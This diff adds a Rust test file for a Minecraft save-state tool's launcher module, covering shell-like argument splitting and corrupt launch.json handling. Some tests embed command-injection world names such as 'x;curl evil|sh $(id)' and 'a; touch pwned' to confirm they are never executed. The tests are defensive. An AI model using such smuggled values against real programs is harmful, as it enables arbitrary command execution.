@@ -0,0 +1,60 @@
+mod common;
+
+use common::ScratchTas;
+use savestates::dotfile;
+use savestates::launch;
+use std::path::PathBuf;
+
+fn arguments(command: &std::process::Command) -> Vec<String> {
+    std::iter::once(command.get_program())
+        .chain(command.get_args())
+        .map(|argument| argument.to_string_lossy().to_string())
+        .collect()
+}
+
+#[test]
+fn splits_arguments_like_a_shell() {
+    assert_eq!(launch::split_arguments("prism --launch  'My Instance' --world \"a b\"").unwrap(), vec!["prism", "--launch", "My Instance", "--world", "a b"]);
+    assert_eq!(launch::split_arguments(r#"echo "say \"hi\"" '' x"#).unwrap(), vec!["echo", "say \"hi\"", "", "x"]);
+    assert_eq!(launch::split_arguments(r"C:\Games\launcher.exe").unwrap(), vec![r"C:\Games\launcher.exe"]);
+    assert!(launch::split_arguments("prism \"unclosed").is_err());
+    assert!(launch::split_arguments("   ").is_err());
+}
+
+#[test]
+fn keeps_shell_metacharacters_in_one_argument() {
+    let minecraft = PathBuf::from("/games/instance/.minecraft");
+    let world = minecraft.join("saves").join("x;curl evil|sh $(id) `id` && {path}");
+    let command = launch::build_command("prism --launch {instance} --world {world}", &minecraft, &world).unwrap();
+    assert_eq!(arguments(&command), vec!["prism", "--launch", "instance", "--world", "x;curl evil|sh $(id) `id` && {path}"]);
+}
+
+#[cfg(unix)]
+#[test]
+fn never_runs_world_names_as_commands() {
+    let folder = std::env::temp_dir().join(format!("savestates-launch-{}", std::process::id()));
+    let _ = std::fs::remove_dir_all(&folder);
+    std::fs::create_dir_all(&folder).unwrap();
+    let world = folder.join("saves").join("a; touch pwned");
+
+    let status = launch::build_command("touch {world}", &folder, &world).unwrap().status().unwrap();
+    let created: Vec<String> = std::fs::read_dir(&folder).unwrap()
+        .map(|entry| entry.unwrap().file_name().to_string_lossy().to_string())
+        .collect();
+    std::fs::remove_dir_all(&folder).unwrap();
+    assert!(status.success());
+    assert_eq!(created, vec!["a; touch pwned"]);
+}
+
+#[test]
+fn leaves_an_unreadable_launch_file_alone() {
+    let scratch = ScratchTas::new("launch-corrupt");
+    let file = dotfile::get_dotfile_path().join("launch.json");
+    std::fs::write(&file, "{\"/games/.minecraft\":").unwrap();
+
+    assert!(launch::get_launch_command(&scratch.minecraft).is_err());
+    assert!(launch::set_launch_command(&scratch.minecraft, Some("prism".to_string())).is_err());
+    assert!(launch::launch_world(&scratch.minecraft, &scratch.minecraft.join("saves").join("World")).is_err());
+    assert_eq!(std::fs::read_to_string(&file).unwrap(), "{\"/games/.minecraft\":");
+    std::fs::remove_file(&file).unwrap();
+}